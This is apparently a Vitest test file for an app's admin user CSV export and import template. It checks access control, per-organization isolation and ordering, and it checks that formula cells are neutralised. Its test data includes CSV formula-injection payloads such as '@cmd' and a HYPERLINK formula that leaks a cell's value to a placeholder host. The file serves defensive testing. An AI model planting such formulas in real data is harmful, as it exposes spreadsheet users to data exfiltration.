/** The CSV export of the organization's users and the import template. */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { addUser, signedIn } from '../../test/helpers.js';
import { CSV_COLUMNS } from '../../../shared/mass-create.schema.js';
import { massCreate, result, useMassCreationApp } from './mass-creation.test-support.js';

const t = useMassCreationApp();
const { freshOrg, sqlite, get } = t;

describe('CSV export and template', () => {
  it("exports the organization's users with formula cells neutralised and odd values intact", async () => {
    const mine = await freshOrg();
    const theirs = await freshOrg();
    const tricky = [
      '=1+2";=1+2',
      '+SUM(A1)',
      '-2+3',
      '@cmd',
      '\tTabbed',
      '\rReturn',
      '\nNewline',
      '\0Nul',
      'a,=HYPERLINK("http://x?"&A1)',
      'a;=HYPERLINK("http://x?"&A1)',
      'Two\nLines, "quoted"',
    ];
    const emails: string[] = [];
    for (const [i, name] of tricky.entries()) {
      const u = await addUser(t.app, mine.org.id, { email: `t${i}@${mine.domain}`, full_name: name, manager_id: mine.manager.id, team_id: mine.team.id });
      emails.push(u.email);
    }
    const res = await get(mine.admin.token, '/api/admin/users/export.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="teamlens-users-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.body).toContain('"\'=1+2"";=1+2"');
    expect(res.body).toContain('"a,=HYPERLINK(""http://x?""&A1)"');

    const records = parse(res.body, { bom: true, columns: true }) as Array<Record<string, string>>;
    const header = (parse(res.body, { bom: true, to_line: 1 }) as string[][])[0];
    expect(header).toEqual([...CSV_COLUMNS, 'status', 'created_at', 'last_login']);
    const byEmail = new Map(records.map((r) => [r.email!, r]));
    // Only this organization's people: 4 seeded + the tricky ones; none of the other org.
    expect(records).toHaveLength(4 + tricky.length);
    expect(records.some((r) => r.email!.endsWith(theirs.domain))).toBe(false);
    const expected = (name: string) => (/^[=+\-@\t\r\n\0]/.test(name) ? `'${name}` : name);
    tricky.forEach((name, i) => expect(byEmail.get(emails[i]!)!.full_name).toBe(expected(name)));
    expect(byEmail.get(emails[0]!)).toMatchObject({ manager_email: mine.manager.email, team: 'Core', permission_level: 'MEMBER', status: 'ACTIVE', role: '' });
    // No cell of the export starts with a formula trigger.
    for (const r of records) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r\n\0]/);
  });

  it('includes deleted users only on request, and refuses anonymous and member callers', async () => {
    const { admin, member, report, domain } = await freshOrg();
    sqlite().prepare("UPDATE users SET deleted_at = '2025-02-02T00:00:00Z' WHERE id = ?").run(report.id);
    const plain = parse((await get(admin.token, '/api/admin/users/export.csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(plain.map((r) => r.email)).not.toContain(report.email);
    const all = parse((await get(admin.token, '/api/admin/users/export.csv?includeDeleted=true')).body, { bom: true, columns: true }) as Array<
      Record<string, string>
    >;
    expect(all.find((r) => r.email === report.email)).toMatchObject({ deleted_at: '2025-02-02T00:00:00Z' });
    expect(all.every((r) => r.email!.endsWith(`@${domain}`))).toBe(true);
    expect((await get(null, '/api/admin/users/export.csv')).statusCode).toBe(401);
    const memberCaller = await signedIn(t.app, member.email);
    expect((await get(memberCaller.token, '/api/admin/users/export.csv')).statusCode).toBe(403);
    expect((await get(memberCaller.token, '/api/admin/users/import-template.csv')).statusCode).toBe(403);
  });

  it('pages through a large organization in order', async () => {
    const { admin, domain } = await freshOrg();
    const rows = Array.from({ length: 2_345 }, (_, i) => ({ email: `bulk${String(i).padStart(5, '0')}@${domain}`, full_name: `Bulk ${i}` }));
    expect(result(await massCreate(admin, rows)).count).toBe(2_345);
    const records = parse((await get(admin.token, '/api/admin/users/export.csv')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(records).toHaveLength(2_345 + 4);
    const emails = records.map((r) => r.email!);
    expect(emails).toEqual([...emails].sort());
    expect(new Set(emails).size).toBe(emails.length);
  });

  it('serves the import template: the header plus one example row', async () => {
    const { admin } = await freshOrg();
    const res = await get(admin.token, '/api/admin/users/import-template.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".*\.csv"$/);
    const records = parse(res.body, { bom: true }) as string[][];
    expect(records).toHaveLength(2);
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records[1]).toHaveLength(CSV_COLUMNS.length);
  });
});
